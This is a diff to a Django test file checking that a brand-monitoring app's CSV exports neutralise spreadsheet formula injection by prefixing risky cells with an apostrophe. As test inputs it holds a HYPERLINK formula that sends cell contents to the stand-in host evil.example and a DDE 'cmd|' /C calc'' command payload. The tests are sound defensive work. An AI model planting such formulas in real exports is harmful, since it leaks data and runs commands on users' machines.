@@ -14,7 +14,7 @@ from django.urls import reverse
 from django.utils import timezone
 
 from engagement.models import SentimentCorrection
-from listening.models import Brand, Source
+from listening.models import Author, Brand, Mention, Source
 from tests.engagement.conftest import (
     acme,
     admin_user,
@@ -292,8 +292,9 @@ def test_the_export_streams_the_current_filter_with_the_cli_columns(
     assert rows[0] == FIELDS
     assert len(rows) == 2
     record = dict(zip(FIELDS, rows[1], strict=True))
-    # Exact text: no formula escaping (re-import and evaluation read it back).
-    assert record["text"] == '=HYPERLINK("http://evil") acme is awful'
+    # Issue 9: the web download is opened in spreadsheets, so a formula is neutralised
+    # (exact text is what `manage.py export_mentions` without --spreadsheet-safe gives).
+    assert record["text"] == "'" + '=HYPERLINK("http://evil") acme is awful'
     assert record["brand"] == "Acme"
     assert record["author"] == "Eve"
     assert record["label"] == "negative"
@@ -335,6 +336,84 @@ def test_the_corrections_export_lists_the_labelled_set(
         "ana",
         "2024-05-01T08:00:00Z",
     ]
+
+
+# Every character OWASP lists as starting a formula, with a payload behind it.
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+def formula(start: str) -> str:
+    if start in "\t\r":
+        return f'{start}=HYPERLINK("http://evil.example/?leak="&A1, "acme")'
+    return f"{start}SUM(1+1)*cmd|' /C calc'!A0"
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
+def test_the_export_neutralises_formulas_in_every_text_column_and_keeps_numbers(
+    client, marketer, acme, social_source, start
+):
+    from listening.management.commands.export_mentions import FIELDS
+
+    mention = store_mention(social_source, "acme is awful and broken")
+    payload = formula(start)
+    # Stored as a source, an import or the admin could write them (ingest collapses
+    # whitespace in text and title, not in every path).
+    Mention.objects.filter(pk=mention.pk).update(
+        text=payload + " acme", title=payload, external_id=payload
+    )
+    Author.objects.filter(pk=mention.author_id).update(display_name=payload)
+    client.force_login(marketer)
+    response = client.get(EXPORT, {"brand": acme.pk})
+    assert response.status_code == 200
+    rows = csv_rows(response)
+    assert len(rows) == 2
+    record = dict(zip(FIELDS, rows[1], strict=True))
+    assert record["text"] == "'" + payload + " acme"
+    assert record["title"] == "'" + payload
+    assert record["external_id"] == "'" + payload
+    assert record["author"] == "'" + payload
+    # Numbers stay numbers a spreadsheet can sum: a negative compound keeps its "-".
+    mention.refresh_from_db()
+    assert mention.compound < 0
+    assert record["compound"] == str(mention.compound)
+    assert record["id"] == str(mention.pk)
+    assert record["label"] == "negative"
+
+
+def test_the_export_leaves_ordinary_text_alone(client, marketer, acme, social_source):
+    from listening.management.commands.export_mentions import FIELDS
+
+    text = "acme: 1+1=2, e-mail me @ 5 - or not; 'quoted' \"too\""
+    store_mention(social_source, text, author_name="Ann-Marie = @ann")
+    client.force_login(marketer)
+    record = dict(zip(FIELDS, csv_rows(client.get(EXPORT, {"brand": acme.pk}))[1], strict=True))
+    assert record["text"] == text
+    assert record["author"] == "Ann-Marie = @ann"
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
+def test_the_corrections_export_neutralises_formulas_in_text_and_reason(
+    client, marketer, agent, acme, social_source, start
+):
+    mention = store_mention(social_source, "acme is awful")
+    payload = formula(start)
+    Mention.objects.filter(pk=mention.pk).update(text=payload)
+    SentimentCorrection.objects.create(
+        mention=mention,
+        brand=acme,
+        user=agent,
+        original_label="negative",
+        original_compound=-0.4588,
+        label="positive",
+        reason=payload,
+    )
+    client.force_login(marketer)
+    response = client.get(CORRECTIONS, {"brand": acme.pk})
+    assert response.status_code == 200
+    row = csv_rows(response)[1]
+    assert row[1] == "'" + payload  # text
+    assert row[3] == "-0.4588"  # vader_compound: a number, not neutralised
+    assert row[5] == "'" + payload  # reason
 
 
 # -- index -------------------------------------------------------------------------------
